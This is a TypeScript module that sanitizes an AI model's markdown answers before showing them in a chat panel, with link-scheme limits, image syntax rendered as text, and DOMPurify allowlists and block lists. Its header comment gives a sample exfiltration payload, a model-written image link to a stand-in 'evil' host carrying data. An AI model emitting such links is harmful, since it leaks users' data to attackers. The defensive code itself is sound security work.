// Turns a model's answer (markdown) into HTML that is safe to put into the chat panel.
// Two layers: markdown-it with raw HTML off, links limited to http(s)/mailto and image syntax
// shown as text (a model that writes ![x](https://evil/?data) must never make the panel fetch
// anything); then DOMPurify with an allowlist of the tags markdown-it produces.

import createDOMPurify from 'dompurify';
import type { DOMPurify, WindowLike } from 'dompurify';
import MarkdownIt from 'markdown-it';

/** Schemes a link may use. Everything else (javascript:, data:, file:, command:, relative) stays text. */
const allowedLinkPattern = /^(?:https?:|mailto:)/i;

/** The tags markdown-it emits for CommonMark + tables + strikethrough, plus our image-text span. */
const allowedTags = [
  'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'ul', 'ol', 'li',
  'pre', 'code', 'em', 'strong', 's', 'a', 'span',
  'table', 'thead', 'tbody', 'tr', 'th', 'td',
];
const allowedAttributes = ['href', 'title', 'class', 'start'];
/** Listed too in case a future change widens the allowlist: these must never get through. */
const forbiddenTags = [
  'img', 'picture', 'source', 'video', 'audio', 'track', 'image', 'svg', 'math', 'style', 'link', 'meta', 'base',
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select',
];
const forbiddenAttributes = ['style', 'src', 'srcset', 'action', 'formaction', 'background', 'poster', 'xlink:href'];

function createParser() {
  const markdown = new MarkdownIt({ html: false, linkify: false, typographer: false });
  markdown.validateLink = (url) => allowedLinkPattern.test(url.trim());

  // Image syntax still parses (so it does not turn into "!" plus a live link to the same URL) but
  // renders as its literal source text: the user sees what the model wrote, nothing is fetched.
  markdown.renderer.rules.image = (tokens, index) => {
    const token = tokens[index];
    const alt = token.children ? token.children.map((child) => child.content).join('') : token.content;
    const source = String(token.attrGet('src') ?? '');
    const title = token.attrGet('title');
    const literal = `![${alt}](${source}${title ? ` "${title}"` : ''})`;
    return `<span class="md-image-text">${markdown.utils.escapeHtml(literal)}</span>`;
  };

  // Table alignment comes as style="text-align:…", which the panel's CSP blocks: use a class.
  markdown.core.ruler.push('glimpse_table_alignment', (state) => {
    for (const token of state.tokens) {
      if (token.type !== 'th_open' && token.type !== 'td_open') continue;
      const style = token.attrGet('style');
      if (style === null) continue;
      token.attrs = (token.attrs ?? []).filter(([name]) => name !== 'style');
      const alignment = /text-align:\s*(left|center|right)/.exec(String(style));
      if (alignment) token.attrJoin('class', `md-align-${alignment[1]}`);
    }
  });
  return markdown;
}

function createPurifier(window: WindowLike): DOMPurify {
  const purifier = createDOMPurify(window);
  // An unsupported DOMPurify returns its input unchanged: refuse rather than render unsanitized HTML.
  if (!purifier.isSupported) throw new Error('DOMPurify cannot sanitize in this window, so the answer is not rendered.');
  purifier.addHook('afterSanitizeAttributes', (node) => {
    if (node.nodeName === 'A' && node.hasAttribute('href')) node.setAttribute('rel', 'noopener noreferrer');
  });
  return purifier;
}

let parser: ReturnType<typeof createParser> | undefined;
const purifiers = new WeakMap<WindowLike, DOMPurify>();

function purifierFor(window: WindowLike | undefined): DOMPurify {
  if (!window) throw new Error('renderMarkdown needs a DOM window to sanitize with (the webview\'s own, or jsdom\'s in tests).');
  let purifier = purifiers.get(window);
  if (!purifier) {
    purifier = createPurifier(window);
    purifiers.set(window, purifier);
  }
  return purifier;
}

/**
 * Renders markdown to sanitized HTML. `window` is the DOM DOMPurify works in: the webview's own
 * window by default, a jsdom window in unit tests.
 */
export function renderMarkdown(text: string, window: WindowLike | undefined = globalThis.window): string {
  parser ??= createParser();
  return purifierFor(window).sanitize(parser.render(text), {
    ALLOWED_TAGS: allowedTags,
    ALLOWED_ATTR: allowedAttributes,
    FORBID_TAGS: forbiddenTags,
    FORBID_ATTR: forbiddenAttributes,
    ALLOWED_URI_REGEXP: allowedLinkPattern,
    ALLOW_DATA_ATTR: false,
    ALLOW_ARIA_ATTR: false,
  });
}
